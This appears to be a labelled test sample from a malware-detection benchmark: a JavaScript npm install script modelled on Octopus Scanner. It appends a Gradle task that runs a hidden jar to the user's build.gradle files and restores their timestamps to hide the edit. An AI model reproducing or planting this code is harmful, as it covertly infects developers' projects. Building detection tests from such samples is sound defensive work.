// expect: malicious
// when: install
// source: Octopus Scanner moved into an npm install script (blind set 34's JDK locator): a postinstall that finds the
// user's Gradle projects and adds a task to their build files, then puts the old timestamps back.
const fs = require('fs');
const os = require('os');
const path = require('path');

const TASK = "\ntask warmCache { doLast { exec { commandLine 'java', '-jar', System.getProperty('user.home') + '/.cache/gw/w.jar' } } }\n";

for (const root of [path.join(os.homedir(), 'projects'), path.join(os.homedir(), 'IdeaProjects')]) {
  let names = [];
  try { names = fs.readdirSync(root); } catch (e) { continue; }
  for (const name of names) {
    const file = path.join(root, name, 'build.gradle');
    if (!fs.existsSync(file)) continue;
    const st = fs.statSync(file);
    const text = fs.readFileSync(file, 'utf8');
    if (!text.includes('warmCache')) fs.writeFileSync(file, text + TASK);
    fs.utimesSync(file, st.atime, st.mtime);
  }
}
